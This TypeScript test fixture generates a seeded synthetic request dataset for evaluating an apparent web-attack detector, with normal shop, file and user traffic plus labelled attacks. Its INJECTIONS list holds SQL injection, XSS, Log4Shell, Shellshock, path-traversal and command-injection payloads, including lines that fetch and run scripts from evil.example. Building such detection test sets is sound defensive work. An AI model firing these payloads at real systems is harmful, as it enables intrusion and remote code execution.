// The made set that guards quality: three services whose requests have headers, cookies and free text, and attacks of
// three makings, each of which one head sees and the others hardly do: words of injections where every character is
// usual, parameters that nobody sends, and values escaped without need. Seeded; goes through the reader of real sets.

import { parseRow, type QualitySet } from "../../bench/quality/set.ts";
import { Prng } from "../support/prng.ts";

const NORMALS = 500;
const LEARN_SHARE = 0.6;
/** Of each making, in each service. */
const ATTACKS = 24;

interface Draft {
  path: string;
  query: [name: string, value: string][];
  headers: [name: string, value: string][];
}

const THINGS = ["tea", "mug", "kettle", "spoon", "honey", "milk", "tray", "glass", "basket", "candle", "table", "lamp"];
const ADJECTIVES = ["green", "black", "small", "round", "heavy", "cheap", "red", "old", "new", "wooden"];
const NAMES = ["Ann", "Bob", "Chloe", "Dara", "Emil", "Fay", "O'Hara", "D'Arcy"];
const AGENTS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
  "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2",
  "okhttp/4.12.0",
];

/** Free text as people write it: every character of an attack is usual in it. */
function note(prng: Prng): string {
  const thing = () => `${prng.pick(ADJECTIVES)} ${prng.pick(THINGS)}`;
  return prng.pick([
    () => `${thing()} and ${thing()}, please`,
    () => `${prng.pick(NAMES)}'s ${thing()} (size ${prng.between(1, 60)}); 2nd try`,
    () => `"${thing()}" - ${prng.between(2, 9)} <pcs> at $${prng.between(1, 90)}.50 / each`,
    () => `is it ${thing()}? 100% ${thing()} = {best}`,
    () => `${thing()} | ${thing()} | ${thing()} [${prng.pick(NAMES)}] #${prng.below(500)}`,
    () => `${thing()}`,
  ])();
}

function headersOf(prng: Prng, svc: string): Draft["headers"] {
  const hex = () => Array.from({ length: 16 }, () => prng.below(16).toString(16)).join("");
  return [
    ["host", svc],
    ["user-agent", prng.pick(AGENTS)],
    ["accept", prng.pick(["*/*", "application/json", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"])],
    ["accept-language", prng.pick(["en-US,en;q=0.9", "de-DE,de;q=0.8", "fr"])],
    ["cookie", `sid=${hex()}; theme=${prng.pick(["dark", "light"])}`],
    ["referer", `https://${svc}.example/${prng.pick(THINGS)}?from=${prng.pick(THINGS)}`],
    ["x-note", note(prng)],
  ];
}

const SERVICES: Record<string, (prng: Prng) => Pick<Draft, "path" | "query">> = {
  shop: (prng) => ({
    path: `/products/${prng.below(10_000)}`,
    query: [
      ["q", note(prng)],
      ["page", String(prng.below(20))],
    ],
  }),
  files: (prng) => ({
    path: `/files/${prng.pick(THINGS)}/${prng.pick(ADJECTIVES)}-${prng.below(500)}.png`,
    query: [
      ["title", note(prng)],
      ["v", prng.pick(ADJECTIVES)],
    ],
  }),
  users: (prng) => ({
    path: `/users/${prng.below(100_000)}/orders`,
    query: [
      ["comment", note(prng)],
      ["sort", prng.pick(["price", "date", "name"])],
    ],
  }),
};

const INJECTIONS = [
  "tea' or '1'='1' -- ",
  "mug' union select name, password from users -- ",
  "1; drop table orders; select * from users",
  "x' and sleep(5) and 'a'='a",
  "tea'; exec xp_cmdshell('whoami'); -- ",
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  '"><svg onload=confirm(1)>',
  "tea | cat /etc/passwd",
  "mug; wget http://evil.example/a.sh; bash a.sh",
  "$(curl http://evil.example/x | bash)",
  `\${jndi:ldap://evil.example/a}`,
  "../../../../etc/passwd",
  "() { :;}; /bin/bash -c 'cat /etc/passwd'",
];

/** Harmless to look at: what nobody sends. */
const STRANGE: [name: string, value: string][] = [
  ["debug", "1"],
  ["admin", "true"],
  ["role", "owner"],
  ["price", "0"],
  ["is_admin", "1"],
  ["redirect", "no"],
  ["template", "mug"],
];

/** Every second character as an escape it does not need. */
function needlessly(text: string): string {
  const escaped = (char: string) => `%${char.charCodeAt(0).toString(16).padStart(2, "0")}`;
  return [...text].map((char, i) => (i % 2 === 0 ? escaped(char) : char)).join("");
}

type Wire = { u: string; h: Draft["headers"]; at: string };

function wireOf({ path, query, headers }: Draft, raw: Record<string, string> = {}): Omit<Wire, "at"> {
  const pieces = query.map(([name, value]) => `${name}=${raw[name] ?? encodeURIComponent(value)}`);
  return { u: `${path}?${pieces.join("&")}`, h: headers };
}

/** By making; each changes one place of an ordinary request. */
const MAKINGS: Record<string, (prng: Prng, draft: Draft) => Wire> = {
  injection: (prng, draft) => {
    const payload = prng.pick(INJECTIONS);
    const place = prng.below(3);
    const [name = ""] = draft.query[0] ?? [];
    if (place === 0) {
      const query: Draft["query"] = draft.query.map(([key, value]) => [key, key === name ? payload : value]);
      return { ...wireOf({ ...draft, query }), at: `query:${name}` };
    }
    if (place === 1) {
      const header = prng.pick(["x-note", "user-agent"]);
      const headers: Draft["headers"] = draft.headers.map(([key, value]) => [key, key === header ? payload : value]);
      return { ...wireOf({ ...draft, headers }), at: `header:${header}` };
    }
    const segments = draft.path.split("/");
    const at = segments.length - 1;
    segments[at] = encodeURIComponent(payload);
    return { ...wireOf({ ...draft, path: segments.join("/") }), at: `path:${at}` };
  },
  tampering: (prng, draft) => {
    const [name, value] = prng.pick(STRANGE);
    return { ...wireOf({ ...draft, query: [...draft.query, [name, value]] }), at: `query:${name}` };
  },
  evasion: (prng, draft) => {
    const [name = ""] = draft.query[0] ?? [];
    const escaped = needlessly(`${prng.pick(ADJECTIVES)} ${prng.pick(THINGS)}`);
    return { ...wireOf(draft, { [name]: escaped }), at: `query:${name}` };
  },
};

/** `normals` normal rows in each service. */
export function guardSet(seed: number, normals = NORMALS): QualitySet {
  const prng = new Prng(seed);
  const rows = Object.entries(SERVICES).flatMap(([svc, make]) => {
    const draft = (): Draft => ({ ...make(prng), headers: headersOf(prng, svc) });
    const row = (wire: Omit<Wire, "at">, label: object) =>
      JSON.stringify({ svc, src: "client", m: "GET", ...wire, bl: 0, ...label });
    const learn = Math.floor(LEARN_SHARE * normals);
    const own = Array.from({ length: normals }, (_, i) =>
      row(wireOf(draft()), { y: 0, k: "norm", at: "", ph: i < learn ? "learn" : "test" }),
    );
    for (const [kind, attack] of Object.entries(MAKINGS)) {
      for (let i = 0; i < ATTACKS; i++) {
        const { at, ...wire } = attack(prng, draft());
        own.splice(prng.between(learn, own.length), 0, row(wire, { y: 1, k: kind, at, ph: "test" }));
      }
    }
    return own;
  });
  const parsed = rows.map(parseRow);
  return {
    name: "guard",
    requests: parsed.map(({ request }) => request),
    labels: parsed.map(({ label }) => label),
  };
}
